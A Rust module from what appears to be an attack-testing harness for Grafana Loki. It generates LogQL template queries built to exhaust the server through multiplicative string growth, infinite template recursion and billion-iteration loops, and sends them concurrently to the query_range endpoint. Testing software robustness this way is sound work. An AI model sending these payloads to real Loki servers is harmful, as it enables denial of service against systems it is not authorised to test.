//! Templates whose results grow by multiplication, and recursions that never end.

use anyhow::Result;

use super::Attack;
use crate::ground::Ground;

/// This attack.
pub static ATTACK: Attack =
    Attack { name: "templates", about: "templates whose results multiply on one line", run };

/// Template steps that make their argument longer; `X` is the argument.
const STEPS: &[&str] = &[
    r#"replace "a" "aaaaaaaaaaaaaaaa" X"#,
    r#"X | Replace "a" "aaaaaaaaaaaaaaaa" -1"#,
    r#"regexReplaceAll "." X "$0$0$0$0$0$0$0$0""#,
    r#"regexReplaceAllLiteral "." X "aaaaaaaaaaaaaaaa""#,
    "indent 10000 X",
    "nindent 10000 X",
    "b64enc X",
    r#"printf "%x" X"#,
    r#"printf "%s%s%s%s%s%s%s%s" X X X X X X X X"#,
    r#"printf "%100000s" X"#,
    r#"printf "%q" X"#,
    "repeat 1000 X",
    "urlencode X",
    "X | html | js",
    "alignRight 1000000 X",
    "print X X X X",
    r#"join X X"#,
];
/// The largest template in bytes; a query has at most 128 KiB.
const TEMPLATE_MAX: usize = 64 << 10;
const ENDLESS: &[&str] = &[
    r#"{{define "a"}}{{template "a" .}}{{end}}{{template "a" .}}"#,
    r#"{{define "a"}}aaaa{{template "a" .}}{{template "a" .}}{{end}}{{template "a" .}}"#,
    r#"{{range (until 1000000000)}}aaaa{{end}}"#,
    r#"{{range $i, $c := (__line__ | split "")}}{{range $i, $c := (__line__ | split "")}}aaaa{{end}}{{end}}"#,
];

fn run(ground: &Ground<'_>) -> Result<()> {
    ground.store_lines("templates", &["aaaaaaaaaaaaaaaa a=1".to_owned()]);
    let mut templates: Vec<String> = ENDLESS.iter().map(|text| (*text).to_owned()).collect();
    for step in STEPS {
        for depth in [4, 20] {
            templates.push(format!("{{{{{}}}}}", nested(step, depth)));
        }
        let doubled = format!("{{{{$x := __line__}}}}{}{{{{$x}}}}", assign(step).repeat(30));
        templates.push(doubled);
    }
    let together = ground.pick(4, 16);
    for group in templates.chunks(together) {
        std::thread::scope(|scope| {
            for (n, template) in group.iter().enumerate() {
                scope.spawn(move || {
                    let stages = ["line_format ", "label_format grown="];
                    for stage in &stages[ground.pick(n % 2, 0)..ground.pick(n % 2 + 1, 2)] {
                        let query = format!("{{job=\"templates\"}} | {stage}`{template}`");
                        ground.form("/loki/api/v1/query_range", &[("query", &query), ("limit", "5000")]);
                    }
                });
            }
        });
    }
    Ok(())
}

/// Nests the step within itself as often as a query permits; some steps use their argument eight times.
fn nested(step: &str, depth: usize) -> String {
    let mut text = "__line__".to_owned();
    for _ in 0..depth {
        let deeper = step.replace('X', &format!("({text})"));
        if deeper.len() > TEMPLATE_MAX {
            break;
        }
        text = deeper;
    }
    text
}

fn assign(step: &str) -> String {
    format!("{{{{$x = {}}}}}", step.replace('X', "$x"))
}
